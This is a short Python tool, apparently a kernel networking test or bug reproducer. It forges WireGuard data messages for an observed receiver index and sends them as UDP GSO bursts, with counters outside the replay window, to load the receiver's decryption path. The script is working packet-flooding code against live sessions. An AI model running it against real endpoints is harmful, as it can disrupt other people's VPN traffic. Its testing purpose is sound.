#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forged WireGuard data messages for a live receiver index.

A data message names its receiver's index in clear, so anyone who sees one
on the wire can address messages to that session. These are 1400 bytes
each: type 4, the index, a counter, then random bytes where the sealed
packet and its tag would be, so that none can open. A run of them leaves
as one UDP GSO datagram (gso_size 1400): the receiving socket cuts it,
and the whole run reaches the receiver's lane in one poll, a run too
large to open inline.

usage: forge.py INDEX ADDR PORT --count N
       forge.py INDEX ADDR PORT --seconds S
  INDEX    the receiver index in hex, as wgwire.py prints it
  --count  one run of N messages, counters from 2^40 on (far ahead of any
           replay window)
  --seconds  runs of 2 to 16 messages every 2 ms for S seconds; two runs
           in three far ahead of the window, one in three behind it
Prints how many messages it sent.
"""

import os
import socket
import struct
import sys
import time

SIZE = 1400
UDP_SEGMENT = 103
AHEAD = 1 << 40


def run(sock, dst, index, first, n):
    """Sends n messages with counters first, first + 1, ... as one datagram."""
    sock.sendto(b"".join(b"\x04\0\0\0" + index +
                         struct.pack("<Q", first + k) + os.urandom(SIZE - 16)
                         for k in range(n)), dst)
    return n


def main():
    if len(sys.argv) != 6 or sys.argv[4] not in ("--count", "--seconds"):
        sys.exit(__doc__)
    index = struct.pack("<I", int(sys.argv[1], 16))
    dst = (sys.argv[2], int(sys.argv[3]))
    family = socket.AF_INET6 if ":" in dst[0] else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_UDP, UDP_SEGMENT, SIZE)
    if sys.argv[4] == "--count":
        print(run(sock, dst, index, AHEAD, int(sys.argv[5])))
        return
    end, sent, i = time.monotonic() + float(sys.argv[5]), 0, 0
    while time.monotonic() < end:
        i += 1
        first = AHEAD + i * 16 if i % 3 else i % 7
        sent += run(sock, dst, index, first, 2 + i % 15)
        time.sleep(0.002)
    print(sent)


if __name__ == "__main__":
    main()
